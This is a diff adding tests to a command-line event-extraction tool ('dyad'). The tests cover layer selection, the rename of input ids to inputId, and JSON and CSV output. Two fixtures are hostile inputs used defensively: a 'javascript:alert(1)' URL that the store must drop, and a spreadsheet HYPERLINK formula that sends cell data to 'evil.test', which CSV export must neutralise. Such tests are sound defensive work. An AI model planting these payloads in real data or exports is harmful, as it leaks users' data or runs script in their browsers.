@@ -8,6 +8,7 @@ import Database from 'better-sqlite3';
 import { fileURLToPath } from 'node:url';
 import { contractDocs } from '../../store/store.contract.js';
 import { openStore } from '../../store/store.js';
+import { parseCsv } from '../../test-support/csv.js';
 
 const here = dirname(fileURLToPath(import.meta.url));
 /**
@@ -91,6 +92,24 @@ describe('dyad CLI', () => {
     assert.ok((doc.layers.sentences?.length ?? 0) >= 2);
   });
 
+  test('extract JSON leaves the token layer out unless --tokens; --layers chooses the layers', () => {
+    const layersOf = (run: Run): string[] => {
+      assert.equal(run.status, 0, run.stderr);
+      return Object.keys((JSON.parse(run.stdout) as { layers: object }).layers).sort();
+    };
+    const plain = layersOf(dyad(['extract', 'first.txt']));
+    assert.ok(!plain.includes('tokens'));
+    assert.ok(plain.includes('sentences') && plain.includes('events'), plain.join());
+    assert.deepEqual(layersOf(dyad(['extract', 'first.txt', '--tokens'])), [...plain, 'tokens'].sort());
+    assert.deepEqual(layersOf(dyad(['extract', 'first.txt', '--layers', 'events, entities'])), ['entities', 'events']);
+    assert.deepEqual(layersOf(dyad(['extract', 'first.txt', '--layers', 'sentences', '--tokens'])), ['sentences', 'tokens']);
+    const jsonl = dyad(['extract', '--jsonl', '--layers', 'dates'], `${JSON.stringify({ id: 'j', text: FIRST })}\n`);
+    assert.deepEqual(Object.keys((JSON.parse(jsonl.stdout) as { layers: object }).layers), ['dates']);
+    assertCleanFailure(dyad(['extract', 'first.txt', '--layers', 'events,verbs']), 2, /--layers: unknown layer "verbs"; layers are paragraphs, sentences, tokens/);
+    assertCleanFailure(dyad(['extract', 'first.txt', '--layers', ',']), 2, /--layers needs one or more/);
+    assertCleanFailure(dyad(['extract', 'first.txt', '--format', 'pretty', '--tokens']), 2, /--format pretty is a fixed summary/);
+  });
+
   test('extract - reads one document from stdin', () => {
     const run = dyad(['extract', '-', '--format', 'json'], SECOND);
     assert.equal(run.status, 0, run.stderr);
@@ -163,12 +182,13 @@ describe('dyad CLI', () => {
     assert.equal(run.status, 0, run.stderr);
     const lines = run.stdout.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
     assert.equal(lines.length, 4);
-    assert.equal((lines[0]?.source as { externalId: string }).externalId, 'a');
-    assert.deepEqual({ id: lines[1]?.id, line: lines[1]?.line }, { id: null, line: 2 });
+    assert.equal((lines[0]?.source as { inputId: string }).inputId, 'a');
+    assert.deepEqual({ inputId: lines[1]?.inputId, line: lines[1]?.line }, { inputId: null, line: 2 });
     assert.match(String(lines[1]?.error), /not JSON/);
     assert.equal((lines[2]?.source as { format: string }).format, 'html');
     assert.match(String(lines[2]?.text), /flooded/);
-    assert.equal(lines[3]?.id, 'no-text');
+    assert.equal((lines[2]?.source as { inputId: string }).inputId, '7');
+    assert.deepEqual({ inputId: lines[3]?.inputId, id: lines[3]?.id }, { inputId: 'no-text', id: undefined });
     assert.match(run.stderr, /2 documents \(skipped 0\), 2 bad lines/);
   });
 
@@ -176,7 +196,7 @@ describe('dyad CLI', () => {
     write('batch.jsonl', `${JSON.stringify({ id: 'f1', text: SECOND })}\n`);
     const run = dyad(['extract', '--jsonl', 'batch.jsonl']);
     assert.equal(run.status, 0, run.stderr);
-    assert.equal((JSON.parse(run.stdout) as { source: { externalId: string } }).source.externalId, 'f1');
+    assert.equal((JSON.parse(run.stdout) as { source: { inputId: string } }).source.inputId, 'f1');
     assertCleanFailure(dyad(['extract', '--jsonl', 'nope.jsonl']), 1, /no such file: nope\.jsonl/);
   });
 
@@ -248,6 +268,28 @@ describe('dyad CLI', () => {
     assert.equal(existsSync(join(dir, 'nowhere.db')), false);
   });
 
+  test('the input\'s own id is inputId in stored documents, event listings and failure lines', async () => {
+    const input = [
+      JSON.stringify({ id: 'wire-1', text: FIRST, published: '2031-05-06', url: 'javascript:alert(1)' }),
+      JSON.stringify({ id: 'wire-2' }),
+    ].join('\n');
+    const run = dyad(['ingest', '-', '--db', 'ids.db'], input);
+    assert.equal(run.status, 0, run.stderr);
+    assert.match(run.stderr, /^failed stdin:2 \(inputId "wire-2"\): line 2: needs a "text"/m);
+    const store = await openStore(join(dir, 'ids.db'));
+    const [event] = await store.queryEvents({});
+    const doc = await store.getDoc(event?.docId ?? '');
+    await store.close();
+    assert.equal(doc?.source.inputId, 'wire-1');
+    assert.equal(doc?.source.url, undefined, 'a javascript: URL is not kept');
+    assert.ok(doc?.messages.some((m) => m.ruleId === 'url-dropped'));
+    const listed = dyad(['events', '--db', 'ids.db', '--format', 'jsonl']);
+    const stored = listed.stdout.trim().split('\n').map((line) => JSON.parse(line) as { inputId?: string; docId: string });
+    assert.ok(stored.length > 0 && stored.every((e) => e.inputId === 'wire-1' && e.docId === doc?.id));
+    const [header, row] = parseCsv(dyad(['events', '--db', 'ids.db', '--format', 'csv']).stdout);
+    assert.equal(row?.[header?.indexOf('input_id') ?? -1], 'wire-1');
+  });
+
   describe('events', () => {
     before(async () => {
       const store = await openStore(join(dir, 'events.db'));
@@ -280,8 +322,26 @@ describe('dyad CLI', () => {
       assert.equal(run.status, 0, run.stderr);
       const rows = run.stdout.split('\r\n').filter(Boolean);
       assert.equal(rows.length, 2);
-      assert.match(rows[0] ?? '', /^id,doc_id,date,/);
+      assert.match(rows[0] ?? '', /^id,doc_id,input_id,date,/);
       assert.match(rows[1] ?? '', /,ASSAULT,,195,4,-10,Northland artillery,NLDMIL,Vell,SLDCVL,Vell,SLD,41.5,22.25,0.9,false,shell,/);
+    });
+
+    test('CSV from a real store reads back with an RFC 4180 reader, formula cells neutralised, numbers kept', async () => {
+      const { shelling } = contractDocs();
+      const [first, second] = shelling.layers.events!;
+      const formula = '=HYPERLINK("http://evil.test/?d="&A1,"open")';
+      shelling.layers.events = [{ ...first!, goldstein: -10, actors: [{ ...first!.actors[0]!, text: formula }] }, second!];
+      const store = await openStore(join(dir, 'hostile.db'));
+      await store.putDocs([shelling]);
+      await store.close();
+      const run = dyad(['events', '--db', 'hostile.db', '--format', 'csv', '--cameo', '195']);
+      assert.equal(run.status, 0, run.stderr);
+      const [header, row, ...rest] = parseCsv(run.stdout);
+      assert.equal(rest.length, 0);
+      const cell = (name: string): string | undefined => row?.[header?.indexOf(name) ?? -1];
+      assert.equal(cell('actor'), `'${formula}`);
+      assert.equal(cell('goldstein'), '-10');
+      assert.equal(cell('lat'), '41.5');
     });
 
     test('filters by CAMEO prefix and by words in the source text', () => {
